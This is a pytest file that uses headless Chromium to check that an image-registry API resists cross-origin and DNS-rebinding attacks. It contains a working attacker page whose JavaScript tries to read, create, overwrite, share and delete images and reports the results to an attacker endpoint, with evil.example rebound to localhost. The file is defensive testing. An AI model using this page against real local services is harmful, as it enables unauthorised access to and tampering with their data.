"""The attack itself, in a real browser: pages of another port and of a rebound name, against flavor none."""

import json
import shutil
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from conftest import IMAGE

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
PAGE = """<!doctype html><title>running</title><script>
const image = {image: {name: "stolen", status: "active", disk_format: "raw", container_format: "bare"}};
const json = {"Content-Type": "application/json"}, body = JSON.stringify(image), id = "@ID@", to = "@TARGET@";
const attempts = {
  list: () => fetch(to + "/images/detail?is_public=none"),
  show: () => fetch(to + "/images/" + id),
  post: () => fetch(to + "/images", {method: "POST", headers: json, body}),
  form: () => fetch(to + "/images", {method: "POST", mode: "no-cors", body}),
  untyped: () => fetch(to + "/images", {method: "POST", mode: "no-cors", body: new Blob([body])}),
  put: () => fetch(to + "/images/" + id, {method: "PUT", headers: json, body}),
  bare: () => fetch(to + "/images/" + id + "/members/evil", {method: "PUT"}),
  delete: () => fetch(to + "/images/" + id, {method: "DELETE"}),
};
(async () => {
  const found = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      const answer = await attempt();
      found[name] = answer.ok ? (await answer.text()).includes(id) ? "read" : "done" : "refused";
    }
    catch (error) { found[name] = "blocked"; }
  }
  await fetch("@REPORT@", {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
})();
</script>"""

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium to visit the pages with")


class Site:
    """A site of an attacker's on another port: it serves the page, and is told what the page could do."""

    def __init__(self):
        self.page, self.report, self.is_reported = "", None, threading.Event()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                self.answer(site.page.encode())

            def do_POST(self):
                site.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                site.is_reported.set()
                self.answer(b"")

            def answer(self, content):
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            def log_message(self, *arguments):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def attack(tmp_path):
    """A function: what a page at ``host`` of another port can do to ``target``, in Chromium, by name of the attempt."""
    site = Site()

    def run(host, target, image_id):
        page = PAGE.replace("@ID@", image_id).replace("@TARGET@", target)
        site.page = page.replace("@REPORT@", f"http://127.0.0.1:{site.port}/report")
        command = [
            CHROMIUM,
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-dev-shm-usage",
            "--no-first-run",
        ]
        # The least that an attacker's DNS does: its name is this machine.
        command += ["--host-resolver-rules=MAP evil.example 127.0.0.1", f"--user-data-dir={tmp_path / 'profile'}"]
        command += ["--remote-debugging-port=0", f"http://{host}:{site.port}/"]
        browser = subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            assert site.is_reported.wait(90), "the browser did not report"
        finally:
            browser.terminate()
            browser.wait(30)
        return site.report

    run.port = site.port
    yield run
    site.server.shutdown()
    site.server.server_close()


@pytest.fixture
def target(start_server):
    """A function: (a server with options, an image of it)."""

    def start(**options):
        server = start_server(**options)
        return server, server.request("POST", "/images", {"image": IMAGE})[2]["image"]

    return start


def images(server):
    return server.request("GET", "/images/detail?is_public=none")[2]["images"]


def members(server, image):
    return server.request("GET", f"/images/{image['id']}/members")[2]["members"]


@pytest.mark.parametrize(
    ("page", "name"),
    [
        *[("localhost", "localhost"), ("127.0.0.1", "127.0.0.1"), ("localhost", "127.0.0.1")],
        *[("evil.example", "127.0.0.1"), ("evil.example", "evil.example")],
    ],
)
def test_a_page_of_another_port_or_a_rebound_name_reads_and_changes_nothing(attack, target, page, name):
    server, image = target()

    report = attack(page, f"http://{name}:{server.port}", image["id"])

    assert len(report) == 8
    assert set(report.values()) <= {"blocked", "refused"}
    assert images(server) == [image]
    assert members(server, image) == []


def test_the_same_page_does_all_of_it_where_its_origin_is_allowed(attack, target):
    server, image = target(server__allowed_origins=f"http://localhost:{attack.port}")

    report = attack("localhost", f"http://127.0.0.1:{server.port}", image["id"])

    done = {name: report[name] for name in ("list", "show", "post", "put", "bare", "delete")}
    assert done == {"list": "read", "show": "read", "post": "done", "put": "read", "bare": "done", "delete": "read"}
    assert [left["name"] for left in images(server)] == ["stolen"]
